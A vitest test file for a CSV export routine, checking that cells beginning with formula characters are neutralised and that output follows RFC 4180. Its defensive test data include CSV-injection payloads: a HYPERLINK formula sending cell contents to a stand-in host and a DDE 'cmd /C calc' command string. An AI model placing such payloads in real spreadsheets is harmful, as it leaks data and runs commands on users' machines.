import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvText } from '../../src/documents/csv.ts';

const cellsOf = (text: string): string[][] => parse(text, { bom: true });

describe('a table as CSV', () => {
  // OWASP, "CSV Injection": cells that begin with = + - @, a tab, a carriage return or a line feed; ASVS 5.0, 1.2.10: a NUL too.
  test.each([
    '=HYPERLINK("https://elsewhere.example/?q="&A1,"Open")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1+1',
    '\uFF1D1+1',
    '\uFF0B1',
    '\uFF0D1+1',
    '\uFF20SUM(1)',
    '--1',
    '-',
  ])('a cell %j is text, not a formula', (cell) => {
    const [, row] = cellsOf(csvText(['horse'], [{ horse: cell }]));
    expect(row).toEqual([`'${cell}`]);
  });

  test.each(['-1.5', '-3', '0', '71.5', 'Ada K.', "O'Hara", 'No. 214', 'a,b', 'a"b', 'a\r\nb', ''])(
    'a cell %j stays as it is',
    (cell) => {
      expect(cellsOf(csvText(['a', 'b'], [{ a: cell, b: 7 }]))[1]).toEqual([cell, '7']);
    },
  );

  // RFC 4180, 2: CRLF between records, quotes doubled, the same number of fields in each line.
  test('it is RFC 4180, with the mark by which Excel knows UTF-8', () => {
    expect(csvText(['a', 'b'], [{ a: 'x "y"', b: null }])).toBe('\uFEFF"a","b"\r\n"x ""y""",\r\n');
  });

  test('whatever stands in the cells, a reader that is not ours reads as many cells, none of them a formula', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom('=1', '-1', '@', ',=1', '"=1', '\r\n=1'),
    );
    fc.assert(
      fc.property(fc.array(fc.record({ a: cell, b: cell }), { minLength: 1, maxLength: 5 }), (rows) => {
        const read = cellsOf(csvText(['a', 'b'], rows));
        expect(read).toHaveLength(rows.length + 1);
        for (const line of read) {
          expect(line).toHaveLength(2);
          for (const one of line) expect(one).not.toMatch(/^([=+@\t\r\n]|-(?!\d+(\.\d+)?$))/);
        }
      }),
      { seed: 20261125, numRuns: 500 },
    );
  });
});
